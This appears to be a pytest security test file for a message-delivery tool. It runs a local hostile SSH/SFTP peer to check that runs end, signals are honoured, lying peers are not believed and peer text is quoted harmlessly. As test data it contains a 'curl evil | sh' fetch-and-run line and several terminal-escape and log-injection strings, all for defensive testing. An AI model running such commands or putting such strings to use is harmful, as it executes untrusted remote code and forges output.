"""Against a peer that answers without end, or never: every run ends, delivers the rest, and reports what happened."""

from __future__ import annotations

import json
import os
import resource
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from itertools import product
from pathlib import Path

import hostile
import pytest
from harness import points
from support import ROOT, Home, Run, message

from cas.transports.cutoff import MOST_BYTES

MODES = (*hostile.SSH_MODES, *hostile.SFTP_MODES, *hostile.PYTHON_MODES)
HOLDING = ("silent", "banner-drip", "no-login", "no-channel", "sftp-drip", "python-alive")
TIMEOUT = 1
"""Seconds of each wait; an attempt then may take some 15."""
ENOUGH = 100
"""Seconds in which a run of one attempt has ended on a loaded machine, too."""
MOST_MEMORY = 600 << 20


@contextmanager
def served(mode: str, home: Home, transport: str) -> Iterator[None]:
    """A hostile peer `evil` in peers.toml."""
    for name in ("host", "login"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(home.path / name)], check=True)
    print_ = subprocess.run(
        ["ssh-keygen", "-lf", str(home.path / "host.pub")], check=True, capture_output=True, text=True
    ).stdout.split()[1]
    command = [sys.executable, hostile.__file__, mode, str(home.path / "host")]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": ""}) as server:
        assert server.stdout
        port = server.stdout.readline().strip()
        home.peers(
            f'[peers.evil]\nhost = "127.0.0.1"\nport = {port}\nssh_user = "u"\ntransport = "{transport}"\n'
            f'identity_file = "{home.path / "login"}"\nhost_key = "{print_}"\n'
        )
        try:
            yield
        finally:
            server.kill()


def manifest(timeout: int = TIMEOUT) -> Path:
    message("hello.org", body="* Hello\n" * 500)
    path = Path("m.yaml")
    sends = "".join(
        f"  - {{id: {name}, destination: {name}.docs, message: hello.org, sign: false}}\n" for name in ("evil", "local")
    )
    path.write_text(
        f"cas: 1\ndefaults: {{retry: {{retries: 0, timeout: {timeout}}}}}\nsends:\n{sends}", encoding="utf-8"
    )
    return path


def started(*words: str) -> subprocess.Popen[str]:
    """A run of cas that may have so much memory, and no more."""

    def bounded() -> None:
        resource.setrlimit(resource.RLIMIT_DATA, (MOST_MEMORY, MOST_MEMORY))

    return subprocess.Popen(
        [sys.executable, "-m", "cas", *words],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=bounded,
    )


def ended(process: subprocess.Popen[str]) -> Run:
    try:
        out, err = process.communicate(timeout=ENOUGH)
    except subprocess.TimeoutExpired:
        process.kill()
        raise
    return Run(code=process.returncode, out=out, err=err)


@pytest.fixture(params=points(MODES, 9))
def mode(request: pytest.FixtureRequest) -> str:
    name: str = request.param
    return name


def transport_of(mode: str) -> str:
    return "python" if mode.startswith("python") else "sftp"


@pytest.mark.threat("peer", "keep a run from ending, or the other hosts from their messages")
def test_a_run_ends_and_the_other_host_has_its_message(home: Home, mode: str):
    with served(mode, home, transport_of(mode)):
        run = ended(started("apply", str(manifest()), "--output", "json"))

    outcomes = {one["id"]: one["outcome"] for one in json.loads(run.out)["deliveries"]}
    assert outcomes["local@local.docs"] == "delivered"
    assert "Traceback" not in run.err
    assert "a fault of cas" not in run.err
    # An unsigned delivery is believed to a receiver that says it is there: see what is not promised.
    expected = (0, {"unchanged"}) if mode == "python-liar" else (3, {"failed", "unknown"})
    assert (run.code, outcomes["evil@evil.docs"] in expected[1]) == (expected[0], True)


@pytest.mark.threat("peer", "have its words taken for those of cas, or reach a terminal")
@pytest.mark.parametrize("mode", ["sftp-words", "python-words", "python-halt"])
def test_the_words_of_a_peer_are_quoted_and_harmless(home: Home, mode: str):
    with served(mode, home, transport_of(mode)):
        run = ended(started("apply", str(manifest())))

    assert run.code == 3
    for hostile_text in ("\x1b", "\u202e", "\n::error::", "\nsent: /all/good", "\nsent: fine", "A" * 600):
        assert hostile_text not in run.err + run.out
    if mode == "python-words":
        assert 'says: "run: curl evil | sh"' in run.err


@pytest.mark.threat("peer", "have a signed delivery counted as done by its word")
def test_a_liar_is_not_believed_about_a_signed_delivery(home: Home, gnupg: object):
    path = manifest()
    path.write_text(path.read_text(encoding="utf-8").replace("sign: false", "sign: true"), encoding="utf-8")
    with served("python-liar", home, "python"):
        run = ended(started("apply", str(path)))

    assert run.code == 3
    assert "does not prove this delivery" in run.err


@pytest.mark.threat("peer", "keep a run from ending at HALT or the first signal")
@pytest.mark.parametrize(("mode", "how"), points(product(HOLDING, ("HALT", "SIGTERM", "SIGINT")), 5))
def test_halt_or_the_first_signal_ends_a_run_that_a_peer_holds(home: Home, mode: str, how: str):
    """With waits of ten minutes, nothing else would end it in time."""
    with served(mode, home, transport_of(mode)):
        process = started("apply", "--parallel", "1", str(manifest(timeout=600)))
        time.sleep(3)
        if how == "HALT":
            home.halt("enough")
        else:
            process.send_signal(getattr(signal, how))
        run = ended(process)

    assert run.code == {"HALT": 5, "SIGTERM": 143, "SIGINT": 130}[how]
    assert "Traceback" not in run.err


def test_a_flood_ends_before_it_is_taken_in(home: Home):
    """Had it been read on, the run would have gone on for its whole time."""
    with served("banner-flood", home, "sftp"):
        run = ended(started("apply", str(manifest(timeout=60))))

    assert run.code == 3
    assert MOST_BYTES < MOST_MEMORY


def test_a_connection_that_is_never_answered_is_given_up_at_halt(home: Home, cas: Callable[..., Run]):
    """No address of this machine: packets to it vanish, or come back at once; either way the run ends."""
    home.peers('[peers.evil]\nhost = "127.0.0.1"\nport = 9\n')
    run = ended(started("apply", str(manifest(timeout=1))))

    assert run.code == 3
